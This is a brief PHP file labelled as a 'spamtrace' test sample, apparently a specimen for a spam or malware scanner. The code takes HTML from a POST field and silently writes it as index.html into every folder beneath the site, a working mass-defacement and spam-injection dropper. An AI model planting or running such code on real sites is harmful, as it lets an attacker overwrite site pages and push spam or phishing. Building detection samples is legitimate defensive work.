<?php
// spamtrace test sample: the same through a recursive iterator: the posted page put in as
// index.html of every folder under the site
$page = $_POST['page'];
$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(__DIR__ . '/..', FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::SELF_FIRST);
foreach ($it as $f) {
    if ($f->isDir()) {
        @file_put_contents($f->getPathname() . '/index.html', $page);
    }
}
